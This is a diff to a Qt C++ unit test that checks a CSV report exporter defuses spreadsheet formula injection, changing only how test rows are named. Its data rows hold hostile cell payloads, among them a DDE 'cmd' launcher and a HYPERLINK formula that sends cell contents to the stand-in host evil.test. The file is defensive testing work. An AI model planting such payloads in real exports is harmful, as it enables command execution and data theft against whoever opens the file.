@@ -334,7 +334,7 @@ void TestReportCsv::payloads_inEveryText_runNothing_data()
     QTest::addColumn<QString>("payload");
     for (const QString &sign : {u"="_s, u"+"_s, u"-"_s, u"@"_s, u"\t"_s, u"\r"_s, u"\n"_s, QString(QChar(0)), u"\uFF1D"_s, u"\uFF0B"_s, u"\uFF0D"_s, u"\uFF20"_s}) {
         for (const QString &rest : {u"cmd|' /C calc'!A0"_s, u"HYPERLINK(\"http://evil.test/?\"&A1;\"x\")"_s, u"1+1;=2+2"_s, u"SUM(A1)\n=1"_s, u"1\t@SUM(1)"_s, u"\",=1,\""_s, u"1\";\"=2"_s})
-            QTest::newRow(qPrintable(sign.toHtmlEscaped() + rest.left(12))) << sign + rest;
+            QTest::addRow("sign U+%04X, %s", sign.front().unicode(), qPrintable(rest.left(6).simplified())) << sign + rest;
     }
 }
 
